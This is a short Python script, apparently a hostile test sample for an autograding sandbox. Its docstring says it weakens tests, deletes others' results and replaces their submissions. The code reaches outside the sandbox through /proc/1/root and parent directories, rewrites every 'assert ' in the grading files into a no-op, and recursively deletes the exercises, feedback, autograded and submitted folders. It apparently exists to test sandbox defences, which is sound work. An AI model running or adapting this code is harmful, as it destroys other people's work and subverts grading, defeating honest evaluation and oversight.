"""Weakens the tests, deletes results of others and replaces their submissions, by path.

ends: ok
earns: 0
"""

# %%
import os
import pathlib
import shutil

for root in ("@COURSE@", "..", "../..", "/proc/1/root@COURSE@", "/proc/1/cwd"):
    for folder in ("exercises", "feedback", "autograded", "submitted"):
        for path in pathlib.Path(root, folder).glob("**/*"):
            try:
                text = path.read_text() if path.is_file() else ""
                path.write_text(text.replace("assert ", "0 and "))
                print("WON", path)
            except (OSError, UnicodeDecodeError):
                pass
        shutil.rmtree(pathlib.Path(root, folder), ignore_errors=True)
